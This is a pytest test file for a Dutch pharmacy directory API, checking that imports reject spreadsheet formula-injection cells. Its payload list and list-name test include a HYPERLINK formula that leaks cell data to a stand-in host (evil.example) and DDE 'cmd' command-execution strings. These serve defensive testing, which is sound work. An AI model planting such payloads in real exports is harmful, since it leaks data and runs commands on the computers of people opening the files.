"""Spreadsheet formula injection: a cell starting with =, +, - or @ (or a tab or CR) is run
by Excel and LibreOffice when someone opens an export. Imports reject such cells in every
column, by CSV and JSON, with and without --skip-invalid, and in the list's own name; so
nothing served can start a formula. The one allowed exception: phone numbers in
international form (+31 ...), made of digits, spaces and ( ) . / - only."""

from __future__ import annotations

import io
import re
from typing import Any

import pytest
from click.testing import CliRunner

from directory_api.cli import main
from tests.helpers import assert_error_shape
from tests.reliability.conftest import AUTH, snapshot

COLUMNS = [
    "id",
    "naam",
    "categorie",
    "gecontracteerd",
    "straat",
    "huisnummer",
    "postcode",
    "plaats",
    "telefoon",
    "website",
    "email",
    "openingstijden",
    "lat",
    "lon",
]
VALID = {
    "id": "F1",
    "naam": "Apotheek Formule",
    "categorie": "apotheek",
    "gecontracteerd": "ja",
    "straat": "Domplein",
    "huisnummer": "1",
    "postcode": "3511 AB",
    "plaats": "Utrecht",
    "telefoon": "+31 30 123 4567",
    "website": "https://example.nl",
    "email": "info@example.nl",
    "openingstijden": "ma-vr 8-18",
    "lat": "52.09",
    "lon": "5.12",
}
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Klik")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u00a0=1+1",
]
PHONE = re.compile(r"\+[0-9][0-9 ()./-]*")


def csv_line(values: dict[str, str]) -> str:
    return ";".join('"' + v.replace('"', '""') + '"' for v in values.values()) + "\n"


def poisoned_file() -> tuple[bytes, list[tuple[int, str]]]:
    """One row per (column, payload); returns the file and (line, column) of every row.

    Lines are physical lines, as a text editor counts them: a CR inside a quoted value
    starts a new one, so the rows after it start one line further down."""
    text = ";".join(COLUMNS) + "\n"
    expected = []
    for column in COLUMNS:
        for n, payload in enumerate(PAYLOADS):
            row = dict(VALID, id=f"F-{column}-{n}", naam=f"Apotheek {column} {n}")
            row[column] = payload
            expected.append((len(re.findall(r"\r\n|\r|\n", text)) + 1, column))
            text += csv_line(row)
    text += csv_line(VALID)  # one clean row
    return text.encode("utf-8"), expected


def served_strings(client) -> list[tuple[str, str, str]]:
    """(provider id, field, value) of every string served by /v1/providers and /v1/sources."""
    out = []
    page = 1
    while True:
        body = client.get(f"/v1/providers?page={page}&page_size=100").get_json()
        for p in body["items"]:
            out += [(p["id"], k, v) for k, v in p.items() if isinstance(v, str)]
        if page * 100 >= body["total"]:
            break
        page += 1
    for s in client.get("/v1/sources").get_json()["sources"]:
        out += [(s["slug"], k, v) for k, v in s.items() if isinstance(v, str)]
    return out


def assert_nothing_served_starts_a_formula(client) -> int:
    strings = served_strings(client)
    for where, key, value in strings:
        first = value.strip()[:1]
        assert value[:1] not in ("\t", "\r") and first not in ("=", "@"), (where, key, value)
        if first in ("+", "-"):
            assert key == "phone" and PHONE.fullmatch(value), (where, key, value)
    return len(strings)


def test_every_column_rejects_every_formula_prefix(admin):
    data, expected = poisoned_file()
    before = snapshot(admin)
    r = admin.post(
        "/v1/sources/cak-apotheken/imports",
        data={"file": (io.BytesIO(data), "poison.csv")},
        headers=AUTH,
    )
    body = assert_error_shape(r, 422)
    found = {(p["line"], p["column"]) for p in body["problems"]}
    for line, column in expected:
        assert (line, column) in found, (line, column, body["problems"][:5])
    assert {p["line"] for p in body["problems"]} == {line for line, _ in expected}
    assert snapshot(admin) == before


def test_skip_invalid_stores_only_the_clean_row(admin):
    data, expected = poisoned_file()
    r = admin.post(
        "/v1/sources/cak-apotheken/imports",
        data={"file": (io.BytesIO(data), "poison.csv"), "skip_invalid": "true"},
        headers=AUTH,
    )
    assert r.status_code == 201, r.get_json()
    assert r.get_json()["rows"] == 1
    assert len(r.get_json()["skipped"]) >= len(expected)
    assert assert_nothing_served_starts_a_formula(admin) > 0


def json_row(column: str, value: Any) -> dict[str, Any]:
    return dict(VALID, **{column: value})


@pytest.mark.parametrize("column", COLUMNS)
def test_json_rows_reject_formulas_too(admin, column):
    rows = [json_row(column, p) for p in PAYLOADS]
    if column not in ("telefoon", "lat", "lon"):
        rows.append(json_row(column, -1))  # a number becomes "-1": a formula in a sheet
    before = snapshot(admin)
    for skip in (False, True):
        r = admin.post(
            "/v1/sources/json-formules/imports",
            json={"rows": rows, "skip_invalid": skip},
            headers=AUTH,
        )
        body = assert_error_shape(r, 422)
        assert {p["line"] for p in body["problems"]} == set(range(2, len(rows) + 2)), body
        assert all(p["column"] == column for p in body["problems"]), body["problems"]
    assert snapshot(admin) == before


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x")', "+cmd|' /C calc'!A0", "@SUM(A1)"])
def test_the_list_name_cannot_be_a_formula(admin, cli_env, tmp_path, name):
    """The list's display name is served in /v1/sources: the same rule applies to it."""
    before = snapshot(admin)
    rows = [dict(VALID)]
    r = admin.post(
        "/v1/sources/nieuwe-lijst/imports", json={"rows": rows, "name": name}, headers=AUTH
    )
    assert_error_shape(r, 422, "name")
    r = admin.post(
        "/v1/sources/nieuwe-lijst/imports",
        data={
            "file": (io.BytesIO(b"naam,categorie,lat,lon\nA,apotheek,52,5\n"), "a.csv"),
            "name": name,
        },
        headers=AUTH,
    )
    assert_error_shape(r, 422, "name")
    f = tmp_path / "lijst.csv"
    f.write_text("naam,categorie,lat,lon\nA,apotheek,52,5\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["import", str(f), "--source", name], env=cli_env)
    assert result.exit_code == 1 and "looks like a spreadsheet formula" in result.stderr
    assert snapshot(admin) == before


def test_what_is_served_after_a_valid_import_starts_no_formula(admin):
    """International phone numbers and negative-looking house numbers are the edge cases."""
    data = (
        b"naam,categorie,telefoon,huisnummer,lat,lon\n"
        b"Apotheek Plus,apotheek,+31 (0)30-123 4567,12-14,52.09,5.12\n"
        b"Apotheek Punt,apotheek,+31.30.1234567,1,52.10,5.13\n"
        b"Apotheek Streep,apotheek,-,2,52.11,5.14\n"  # a lone dash means empty
    )
    r = admin.post(
        "/v1/sources/randgevallen/imports",
        data={"file": (io.BytesIO(data), "rand.csv")},
        headers=AUTH,
    )
    assert r.status_code == 201, r.get_json()
    assert assert_nothing_served_starts_a_formula(admin) > 100
    phones = {
        p["name"]: p["phone"] for p in admin.get("/v1/providers?q=apotheek%20p").get_json()["items"]
    }
    # both served in E.164 (phonenumbers), the one form a tel: link dials exactly
    assert phones == {"Apotheek Plus": "+31301234567", "Apotheek Punt": "+31301234567"}
